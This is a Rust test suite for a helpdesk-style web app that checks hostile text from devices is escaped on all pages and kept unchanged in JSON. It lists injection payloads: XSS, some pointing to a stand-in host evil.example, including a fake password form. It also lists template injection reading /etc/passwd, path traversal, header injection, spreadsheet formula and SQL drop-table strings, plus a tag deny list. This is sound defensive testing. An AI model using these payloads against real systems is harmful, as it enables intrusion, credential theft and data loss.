//! Text from devices on pages: always escaped, never able to leave its place.

use super::support::Desk;
use firstline_collector_store::record::AuditEntry;
use firstline_collector_store::store::People;

const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=\"alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><input name=password>",
    "<style>@import'//evil.example'</style>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "{% include \"/etc/passwd\" %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}",
    "a\u{202E}gnp.exe",
    "a\u{0}b\u{1b}[31mred\u{7}",
    "line\r\nSet-Cookie: x=1",
    "=cmd|' /C calc'!A0",
    "'; DROP TABLE device; --",
    "%00%0d%0a%3Cscript%3E",
    "../../../../etc/passwd",
    "<details open ontoggle=alert(1)>",
];

/// Elements and attributes that no template of ours writes.
fn assert_harmless(page: &str, what: &str) {
    let lower = page.to_lowercase();
    assert_eq!(lower.matches("<script").count(), 1, "{what}: only our own script may stand there");
    for forbidden in [
        "<img src=x",
        "<svg",
        "<iframe",
        "<base",
        "<meta http-equiv",
        "<style",
        "<math",
        "<![cdata",
        "<!--",
        "<a href=javascript",
        "href=\"javascript",
        "<form action=//",
        "<details open",
        "\u{202e}",
        "\u{0}",
        "\u{1b}",
    ] {
        assert!(!lower.contains(forbidden), "{what}: {forbidden:?} reached the page");
    }
    // Inside our own tags nothing but our own attributes: no handler, no early end of a value.
    for tag in lower.split('<').skip(1).filter_map(|rest| rest.split_once('>')).map(|(tag, _)| tag) {
        let names: String = tag.split('"').step_by(2).collect();
        assert!(!names.contains(" on"), "{what}: a handler in <{tag}>");
        assert_eq!(tag.matches('"').count() % 2, 0, "{what}: a broken attribute in <{tag}>");
    }
}

#[tokio::test]
async fn hostile_texts_are_escaped_on_every_page() {
    for payload in PAYLOADS {
        let desk = Desk::filled().await;
        let id = desk.add_device(payload, payload, 3, payload).await;
        let entry = AuditEntry {
            at: desk.now(),
            actor: (*payload).to_owned(),
            action: (*payload).to_owned(),
            subject: (*payload).to_owned(),
            detail: (*payload).to_owned(),
        };
        desk.store.append_audit(&entry).await.unwrap();
        let escaped = crate::web::units::query_escape(payload);
        for path in [
            "/".to_owned(),
            format!("/?q={escaped}&site={escaped}"),
            "/?part=list".to_owned(),
            "/devices".to_owned(),
            format!("/devices?q={escaped}"),
            format!("/devices/{id}"),
            "/tickets/3".to_owned(),
            "/audit".to_owned(),
            format!("/login?next={escaped}"),
            format!("/knowledge/{escaped}"),
            format!("/{escaped}"),
        ] {
            let answer = desk.page(&path, "admin").await;
            if path == "/?part=list" {
                assert!(!answer.text.contains("<script"), "{path} with {payload:?}");
                continue;
            }
            if answer.status == 303 {
                assert_eq!(answer.header("location"), "/", "{path} leads elsewhere");
                continue;
            }
            assert_harmless(&answer.text, &format!("{path} with {payload:?}"));
        }
        let shown = desk.page("/tickets/3", "admin").await.text;
        assert!(shown.contains("In words:"), "the ticket is shown at all");
        let signed_out = desk.form("/login", None, &[("name", payload), ("password", "x")]).await;
        assert_harmless(&signed_out.text, &format!("login as {payload:?}"));
        assert_eq!(signed_out.header("set-cookie"), "");
    }
}

#[tokio::test]
async fn hostile_texts_survive_json_unchanged() {
    let desk = Desk::filled().await;
    for (number, payload) in PAYLOADS.iter().enumerate() {
        let number = u64::try_from(number).unwrap() + 3;
        desk.add_device(payload, "oslo", number, payload).await;
        let ticket = desk.get(&format!("/api/v1/tickets/{number}"), Some("viewer")).await.json();
        assert_eq!(ticket["title"], *payload);
        assert_eq!(ticket["device"]["hostname"], *payload);
    }
}
